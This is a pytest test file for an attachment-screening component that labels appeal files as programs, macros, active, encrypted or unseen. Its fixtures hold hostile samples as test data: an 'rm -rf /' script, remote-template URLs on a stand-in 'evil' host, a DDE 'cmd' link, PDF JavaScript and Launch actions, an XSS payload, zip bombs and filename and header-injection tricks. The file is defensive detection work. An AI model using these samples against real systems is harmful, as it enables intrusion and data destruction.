"""Which files of an appeal may be handed on: by name, by bytes, and by what they would do."""

from __future__ import annotations

import io
import sys
import zlib
from itertools import count
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from workbooks import hostile_zip
from workbooks.zipped import OLE, office, ole, zipped

from ingest.appeals.files import Incoming, judge
from ingest.appeals.packages import MEGABYTE
from register.rules.file_verdict import FileVerdict, verdict_says

PE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 60 + b"PE\0\0"
PICTURE = b"\xff\xd8\xff\xe0" + b"\x9d" * 500
PDF = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n"


def verdict(name: str, data: bytes, declared: str = "", **more: int) -> str:
    (judged,) = judge([Incoming(name, declared, data)], **more)
    return judged.verdict.value


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("act.pdf", PDF),
        ("photo.JPG", PICTURE),
        ("жалоба.txt", "Прошу рассмотреть".encode()),
        ("mz.txt", b"MZ is how this text begins"),
        ("shebang.txt", b"#!!! urgent"),
        ("note.txt", b"a < b, and the script says so"),
        ("table.csv", b"a;b\n1;2"),
        ("", b""),
        ("empty.pdf", b""),
        ("data.xml", b"<?xml version='1.0'?><invoice><description>x</description></invoice>"),
        ("letter.rtf", rb"{\rtf1\ansi Hello \b world\b0}"),
        ("old.doc", ole("WordDocument", "1Table")),
        ("VBA im Text.doc", ole("WordDocument", content="see _VBA_PROJECT".encode("utf-16-le"))),
        ("letter.docx", office()),
        ("photos.zip", zipped({"1.jpg": PICTURE, "folder/2.jpg": PICTURE})),
        ("acts.zip", zipped({"1.docx": office(), "2.pdf": PDF, "inner.zip": zipped({"a": b"a"})})),
        ("stored.zip", zipped({"1.jpg": PICTURE}, packed=0)),
        ("forwarded.eml", b"From: a@b.kg\nContent-Type: text/plain\n\nattachment; filename=a"),
    ],
)  # fmt: skip
def test_a_harmless_file_may_be_opened(name, data):
    assert verdict(name, data) == ""


@pytest.mark.parametrize(
    "name",
    ["act.exe", "act.pdf.exe", "act.pdf          .scr", "photo\u202egpj.exe", "a.JS", "a.lnk",
     "a.exe. ", "a.exe\u200b", "a.hta", "a.iso", "folder\\a.vbs", "a.jar", "a.ps1", "a.com"],
)  # fmt: skip
def test_what_a_system_runs_by_its_name_is_a_program(name):
    """AT2."""
    assert verdict(name, b"text") == "program"
    assert verdict("x.zip", zipped({name.replace("\\", "/"): b"text"})) == "archive-program"


@pytest.mark.parametrize(
    "data",
    [
        PE,
        Path(sys.executable).resolve().read_bytes()[:100_000],
        b"\xcf\xfa\xed\xfe\x07\0\0\x01",
        b"\xca\xfe\xba\xbe\0\0\0\x34",
        b"#!/bin/sh\nrm -rf /\n",
        b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
        OLE.ljust(512, b"\0") + b"\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0\x46",
        b"\0" * 32769 + b"CD001",
        b"[InternetShortcut]\nURL=file://evil",
        zipped({"META-INF/MANIFEST.MF": "", "A.class": b"\xca\xfe\xba\xbe"}),
        zipped({"AndroidManifest.xml": "", "classes.dex": b"dex\n035"}),
    ],
)
def test_a_program_is_one_whatever_it_is_called(data):
    assert verdict("photo.jpg", data) == "program"
    assert verdict("photo.jpg", data, declared="image/jpeg", largest=1) != ""


def test_a_program_in_an_archive_is_found_by_its_bytes_and_below_other_archives():
    archive = zipped({"readme.txt": b"hi", "photo.jpg": PE})
    assert verdict("photos.zip", archive) == "archive-program"
    assert verdict("photos.zip", zipped({"more.zip": archive})) == "archive-program"
    assert verdict("photos.jpg", archive) == "archive-program"


@pytest.mark.parametrize(
    "data",
    [
        ole("WordDocument", "Macros", "VBA", "_VBA_PROJECT"),
        ole("Workbook", "_vba_project_cur"),
        office(word__vbaProject_dot_bin=OLE),
        office(**{"[Content_Types]_dot_xml": "<Types>vnd.ms-office.vbaProject</Types>"}),
        office(**{"[Content_Types]_dot_xml": "<T>ms-word.document.macroEnabled.main+xml</T>"}),
        office(xl__macrosheets__sheet1_dot_xml="<x/>"),
        zipped({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/script-lc.xml": ""}),
        ole("PowerPoint Document", content=b"\x1f\0\xff\x03\x14\0\0\0\x02\0\0\x04\x0c\0\0\0"
            b"\x05\0\0\0\x01\0\0\0\x02\0\0\0"),
        ole("Workbook", content=b"\x09\x08\x10\0\0\x06\x05\0" + b"\0" * 12
            + b"\x85\0\x0a\0" + b"\0\x01\0\0\0\x01\x02\0ab"),
    ],
)  # fmt: skip
def test_macros_are_found(data):
    assert verdict("act.doc", data) == "macros"
    assert verdict("acts.zip", zipped({"act.doc": data})) == "archive-program"


def test_a_document_named_as_one_with_macros_is_one():
    assert verdict("act.docm", office()) == "macros"


def object_stream(objects: bytes) -> bytes:
    packed = zlib.compress(objects)
    return PDF + b"2 0 obj\n<</Type/ObjStm/N 1>>\nstream\r\n" + packed + b"\nendstream\n"


RELATION = '<Relationship Id="1" Type="http://x/relationships/%s" Target="%s" TargetMode="%s"/>'


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("page.html", b"hello"),
        ("drawing.svg", b"<svg/>"),
        ("act.txt", b"\xef\xbb\xbf \n<!-- x --><!DOCTYPE html><p>"),
        ("act.doc", "<html><body>".encode("utf-16")),
        ("act.doc", b"MIME-Version: 1.0\nContent-Type: multipart/related"),
        ("act.xml", b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>'),
        ("act.xml", b'<a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>'),
        ("act.pdf", PDF + b"<</S/JavaScript/JS(app.alert)>>"),
        ("act.pdf", PDF + b"<</S /J#61va#53cript >>"),
        ("act.pdf", PDF + b"<</S/Launch>>"),
        ("act.pdf", PDF + b"<</Type /EmbeddedFile>>"),
        ("act.jpg", b"\n\n" + PDF + b"<</JS 12 0 R>>"),
        ("act.pdf", object_stream(b"<</S/JavaScript>>")),
        ("act.pdf", object_stream(b"<<>>").replace(b"/ObjStm", b"/#4fbjStm")),
        ("act.rtf", rb"{\rtf1{\object{\*\objdata 0105}}}"),
        ("act.doc", rb"{\rt{\*\template http://evil/x.dotm}"),
        ("act.doc", ole("WordDocument", "ObjectPool", "\x01Ole10Native")),
        ("act.docx", office(word__embeddings__oleObject1_dot_bin=OLE)),
        ("act.docx", office(word__media__picture_dot_png=PE)),
        ("act.docx", office(word___rels__settings_dot_xml_dot_rels=RELATION
                            % ("attachedTemplate", "http://evil/x.dotm", "External"))),
        ("act.docx", office(word___rels__settings_dot_xml_dot_rels=RELATION
                            % ("attachedTemplate", "http://evil/x.dotm", "Exter&#110;al"))),
        ("act.xlsx", office(xl__externalLinks__link1_dot_xml="<ddeLink ddeService='cmd'/>")),
        ("act.odt", zipped({"mimetype": "opendocument",
                            "META-INF/manifest.xml": "application/vnd.sun.star.oleobject"})),
    ],
)  # fmt: skip
def test_what_acts_by_itself_is_found(name, data):
    assert verdict(name, data) == "active"
    assert verdict("acts.zip", zipped({name: data})) == "archive-program"


def test_a_link_that_a_reader_clicks_is_harmless():
    link = RELATION % ("hyperlink", "https://achyk.kg/?a=1&amp;b=2", "External")
    assert verdict("act.docx", office(word___rels__document_dot_xml_dot_rels=link)) == ""


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("act.xlsx", ole("EncryptedPackage", "EncryptionInfo")),
        ("act.doc", ole("WordDocument", content=b"\xec\xa5\xc1\0" + b"\0" * 7 + b"\x01")),
        ("act.zip", hostile_zip.locked_entry()),
        ("act.odt", zipped({"mimetype": "opendocument",
                            "META-INF/manifest.xml": "<m:encryption-data/>"})),
        ("act.pdf", object_stream(b"<<>>") + b"trailer <</Encrypt 5 0 R>>"),
    ],
)  # fmt: skip
def test_what_is_locked_cannot_be_checked(name, data):
    assert verdict(name, data) == "encrypted"


@pytest.mark.parametrize(
    "data",
    [
        hostile_zip.zip_bomb(), hostile_zip.many_small_bombs(), hostile_zip.overlapping_zip(),
        hostile_zip.quoted_zip(), hostile_zip.many_entries(), hostile_zip.huge_directory(),
        hostile_zip.nested(), hostile_zip.packed_otherwise(),
        zipped({"a.txt": b"a"})[:-30], b"PK\x03\x04", b"PK\x05\x06" + b"\xff" * 18,
        b"Rar!\x1a\x07\x00", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08", b"MSCF",
        b"\0" * 257 + b"ustar", zipped({"a.7z": b"7z"}), ole("__attach_version1.0_#00000000"),
    ],
    ids=count(),  # two processes make two zips, a second apart
)  # fmt: skip
def test_what_cannot_be_looked_into_is_not_handed_on(data):
    """AT1: bombs, broken and nested archives, other kinds of archives."""
    assert verdict("acts.zip", data, largest=30 * MEGABYTE) == "unseen"


def test_a_member_without_a_name_is_looked_at_like_any_other():
    for data, found in ((b"words", ""), (PE, "archive-program")):
        archive = zipped({"QQ": data}).replace(b"QQ", b"\0Q")  # a name ends at its first zero
        assert verdict("acts.zip", archive) == found


def test_archives_within_archives_are_followed_only_so_far():
    archive = zipped({"a.txt": b"a"})
    verdicts = []
    for _ in range(5):
        verdicts.append(verdict("acts.zip", archive))
        archive = zipped({"more.zip": archive})
    assert verdicts == ["", "", "", "unseen", "unseen"]


def test_all_files_of_a_mail_share_one_allowance():
    """AT1: thirty archives, each of which would be looked into alone."""
    archive = zipped({f"{number}.txt": b"x" for number in range(200)})
    found = judge([Incoming("a.zip", "", archive) for _ in range(30)])
    verdicts = [one.verdict.value for one in found]
    assert (verdicts[0], verdicts[-1]) == ("", "unseen")


def test_a_forwarded_mail_with_files_of_its_own_is_not_handed_on():
    mail = b"From: a@b.kg\nContent-Type: multipart/mixed\n\n--a\nContent-Disposition: attachment\n"
    assert verdict("forwarded", mail, declared="message/rfc822") == "unseen"
    mail = mail.replace(b"Disposition: attachment", b"Type: image/png")
    assert verdict("forwarded.eml", mail) == "unseen"


def test_a_large_file_is_kept_back_and_a_large_program_is_still_called_one():
    assert verdict("act.pdf", PDF, largest=len(PDF)) == ""
    assert verdict("act.pdf", PDF, largest=len(PDF) - 1) == "too-large"
    assert verdict("act.exe", PE, largest=1) == "program"


def test_files_keep_their_order_bytes_and_type_and_get_harmless_names():
    """AT2."""
    files = [
        Incoming("..\\..\\\u202eфото<1>.jpg", "application/octet-stream", PICTURE),
        Incoming("", "image/png", PDF),
    ]
    first, second = judge(files)
    assert (first.name, first.type, first.data) == ("фото_1_.jpg", "image/jpeg", PICTURE)
    assert (second.name, second.type, second.data) == ("file-2", "application/pdf", PDF)


@pytest.mark.parametrize(
    ("declared", "data", "handed_on_as"),
    [
        ("text/html", b"hello <img src=x onerror=alert(1)>", "application/octet-stream"),
        ("image/svg+xml", b"hello", "application/octet-stream"),
        ("message/rfc822", b"From: a@b.kg\n\nhello", "application/octet-stream"),
        ("text/plain; x=1\r\nBcc: a@b.kg", b"hello", "application/octet-stream"),
        ("Text/Plain", b"hello", "text/plain"),
        ("image/heic", b"\0\0\0\x18ftypheic", "image/heic"),
        ("text/html", PICTURE, "image/jpeg"),
    ],
)
def test_a_label_makes_no_web_page_of_a_file(declared, data, handed_on_as):
    (judged,) = judge([Incoming("note", declared, data)])
    assert (judged.verdict, judged.type) == ("", handed_on_as)


def test_workbooks_of_real_programs_may_be_opened():
    first, second = io.BytesIO(), io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"].hyperlink = "https://achyk.kg"
    book.save(first)
    with xlsxwriter.Workbook(second, {"in_memory": True}) as made:
        sheet = made.add_worksheet()
        sheet.write_url("A1", "https://achyk.kg")
        chart = made.add_chart({"type": "line"})
        chart.add_series({"values": "=Sheet1!$A$1:$A$2"})
        sheet.insert_chart("B2", chart)
    assert [verdict("a.xlsx", out.getvalue()) for out in (first, second)] == ["", ""]


@given(
    st.sampled_from([b"", b"PK\x03\x04", OLE, PDF, b"<?xml ", b"{\\rtf", hostile_zip.nested()]),
    st.binary(max_size=300),
    st.sampled_from(["a.zip", "a.docx", "a.pdf", "a.eml", ""]),
)
def test_no_bytes_break_the_judge(before, data, name):
    assert verdict(name, before[: len(before) // 2] + data + before[len(before) // 2 :]) in [
        one.value for one in FileVerdict
    ]


@pytest.mark.parametrize("language", ["ky", "ru", "kk", "en"])
def test_every_verdict_has_its_own_sentence(language):
    said = {verdict_says(one.value, language) for one in FileVerdict}
    assert len(said) == len(FileVerdict)
    assert all(says.endswith(".") for says in said if says)
    assert verdict_says("", language) == ""
    with pytest.raises(ValueError):
        verdict_says("harmless", language)
